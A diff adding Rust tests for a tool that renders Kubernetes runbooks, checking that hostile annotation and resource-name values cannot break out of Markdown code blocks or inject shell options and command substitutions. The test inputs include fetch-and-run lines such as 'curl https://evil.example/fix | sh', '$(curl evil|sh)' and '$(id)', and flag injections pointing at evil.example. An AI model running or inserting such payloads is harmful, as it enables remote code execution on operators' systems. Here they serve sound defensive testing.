@@ -26,6 +26,29 @@ fn assert_clean(text: &str) {
     }
 }
 
+/// Renders like `runbook` but without `assert_clean`: hostile values come out with their control
+/// characters written out (`\u{a}`) or between longer backtick runs, which it would flag.
+fn hostile_runbook(yaml: &str) -> String {
+    let snapshot = snapshot_from_text("k8s/app.yaml", yaml);
+    assert!(snapshot.errors.is_empty(), "{:?}", snapshot.errors);
+    let inventory = discover(&snapshot, &Policy::default());
+    assert_eq!(inventory.endpoints.len(), 1, "{:#?}", inventory.endpoints);
+    render(&inventory.endpoints[0], &snapshot, None)
+}
+
+/// Every code block opens with ```` ```sh ```` and closes with ```` ``` ````, and no line is a
+/// value's own command.
+fn assert_blocks_intact(text: &str) {
+    let fences: Vec<&str> = text.lines().filter(|l| l.starts_with("```")).collect();
+    for pair in fences.chunks(2) {
+        assert_eq!(pair, ["```sh", "```"], "{text}");
+    }
+    assert!(
+        !text.lines().any(|l| l.starts_with("curl https://evil")),
+        "{text}"
+    );
+}
+
 fn has(text: &str, needle: &str) {
     assert!(text.contains(needle), "missing `{needle}` in:\n{text}");
 }
@@ -1275,4 +1298,188 @@ spec:
         );
         assert!(!name.starts_with('.'), "{name}");
     }
+}
+
+#[test]
+fn owner_and_golden_set_values_cannot_break_out_of_the_markdown() {
+    let owner = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"hangar.dev/model-owner: "ml\n\n```sh\ncurl https://evil.example/fix | sh\n```""#,
+    ));
+    assert_blocks_intact(&owner);
+    has(
+        &owner,
+        "**Model symptoms → ml\\u{a}\\u{a}```sh\\u{a}curl https://evil.example/fix | sh\\u{a}```.**",
+    );
+
+    let golden = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"hangar.dev/golden-set: "g.yaml\n```\n\n```sh\ncurl https://evil.example/x | sh\n```""#,
+    ));
+    assert_blocks_intact(&golden);
+    // A file named with a line break is left out of the command, and shown on one line.
+    has(
+        &golden,
+        "# (value with a line break or other control character left out: hangar.dev/golden-set)",
+    );
+    lacks(&golden, "hangar validate --golden");
+    has(
+        &golden,
+        "The golden set is ```` g.yaml\\u{a}```\\u{a}\\u{a}```sh\\u{a}curl https://evil.example/x | sh\\u{a}``` ````",
+    );
+}
+
+#[test]
+fn names_that_start_with_a_dash_are_never_read_as_options() {
+    let helm = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"meta.helm.sh/release-name: "--kube-apiserver=https://evil.example", meta.helm.sh/release-namespace: apps"#,
+    ));
+    has(
+        &helm,
+        "`helm -n apps history -- --kube-apiserver=https://evil.example`",
+    );
+    has(
+        &helm,
+        "`helm -n apps rollback -- --kube-apiserver=https://evil.example REVISION`",
+    );
+    lacks(&helm, "rollback --kube-apiserver");
+
+    let argo = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"argocd.argoproj.io/instance: "--server=evil.example""#,
+    ));
+    has(&argo, "`argocd app rollback -- --server=evil.example`");
+
+    let flux = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"kustomize.toolkit.fluxcd.io/name: "--kubeconfig=/tmp/evil""#,
+    ));
+    has(
+        &flux,
+        "`flux suspend kustomization -n flux-system -- --kubeconfig=/tmp/evil`",
+    );
+
+    // kubectl takes `TYPE/NAME` instead of `TYPE NAME`, which it would read as a flag.
+    let release = hostile_runbook(&vllm(
+        VLLM_ARGS,
+        r#"hangar.dev/release: "--server=https://evil.example""#,
+    ));
+    has(
+        &release,
+        "kubectl -n ml get modelrelease/--server=https://evil.example -o yaml",
+    );
+    lacks(&release, "modelrelease --server");
+
+    let pod = hostile_runbook(
+        r#"
+apiVersion: v1
+kind: Pod
+metadata: {name: "--server=https://evil.example", namespace: lab}
+spec:
+  containers:
+  - name: vllm
+    image: vllm/vllm-openai:v0.11.0
+    args: [--model, m/x-7b, --revision, r1]
+"#,
+    );
+    has(
+        &pod,
+        "kubectl -n lab get pod/--server=https://evil.example\n",
+    );
+    lacks(&pod, "pod --server");
+}
+
+#[test]
+fn names_from_the_input_are_quoted_in_every_command() {
+    let deployment = hostile_runbook(&vllm(VLLM_ARGS, "").replace(
+        "  name: chat\n  namespace: ml\n",
+        "  name: \"x$(curl evil|sh)\"\n  namespace: ml\n",
+    ));
+    has(
+        &deployment,
+        "kubectl -n ml rollout status 'deploy/x$(curl evil|sh)' --timeout=20m",
+    );
+    has(
+        &deployment,
+        "kubectl -n ml rollout history 'deploy/x$(curl evil|sh)'\n",
+    );
+    has(
+        &deployment,
+        "kubectl -n ml rollout undo 'deploy/x$(curl evil|sh)' --to-revision=$REV",
+    );
+    has(
+        &deployment,
+        "set resources 'deploy/x$(curl evil|sh)' -c server",
+    );
+    has(
+        &deployment,
+        "hangar validate --golden 'golden/x$(curl evil|sh).yaml'",
+    );
+    has(
+        &deployment,
+        "`hangar triage 'Deployment/ml/x$(curl evil|sh)'`",
+    );
+    lacks(&deployment, " deploy/x$(");
+
+    let named = |yaml: String| yaml.replace("name: narrator", "name: \"n$(id)\"");
+    let raw = hostile_runbook(&named(isvc(
+        "serving.kserve.io/deploymentMode: RawDeployment",
+        "minReplicas: 2",
+    )));
+    has(
+        &raw,
+        "kubectl -n risk rollout history 'deploy/n$(id)-predictor'",
+    );
+    has(&raw, "kubectl -n risk edit isvc 'n$(id)'");
+    has(
+        &raw,
+        "kubectl -n risk port-forward 'svc/n$(id)-predictor' 8080:80 &",
+    );
+    let serverless = hostile_runbook(&named(isvc("", "canaryTrafficPercent: 10")));
+    has(
+        &serverless,
+        "kubectl -n risk patch isvc 'n$(id)' --type merge",
+    );
+    has(
+        &serverless,
+        "kubectl -n risk wait --for=condition=Ready 'isvc/n$(id)'",
+    );
+    has(
+        &serverless,
+        "get pod -l 'serving.kserve.io/inferenceservice=n$(id)' -o name | head -1 | cut -d/ -f2)",
+    );
+    lacks(&serverless, "=n$(id) ");
+    lacks(&raw, "=n$(id) ");
+}
+
+#[test]
+fn the_key_is_read_in_the_server_container_of_a_pod_kubectl_can_attach_to() {
+    // A sidecar listed first, and a key that is not in a Secret.
+    let deployment = runbook(
+        &vllm(VLLM_ARGS, "")
+            .replace(
+                "{secretKeyRef: {name: chat-key, key: api-key}}",
+                "{configMapKeyRef: {name: chat-cfg, key: api-key}}",
+            )
+            .replace(
+                "      containers:\n      - name: server\n",
+                "      containers:\n      - {name: proxy, image: \"envoyproxy/envoy:v1.31.0\"}\n      - name: server\n",
+            ),
+    );
+    has(
+        &deployment,
+        r#"KEY="$(kubectl -n ml exec deploy/chat -c server -- printenv VLLM_API_KEY)""#,
+    );
+
+    // kubectl exec cannot attach to an InferenceService: the first predictor pod instead.
+    let kserve = runbook(&isvc("", "canaryTrafficPercent: 10").replace(
+        "    ports: [{containerPort: 8080}]\n",
+        "    ports: [{containerPort: 8080}]\n    env: [{name: VLLM_API_KEY, valueFrom: {configMapKeyRef: {name: keys, key: narrator}}}]\n",
+    ));
+    has(
+        &kserve,
+        r#"KEY="$(kubectl -n risk exec "$(kubectl -n risk get pod -l serving.kserve.io/inferenceservice=narrator -o name | head -1)" -c kserve-container -- printenv VLLM_API_KEY)""#,
+    );
+    lacks(&kserve, "exec isvc/");
 }
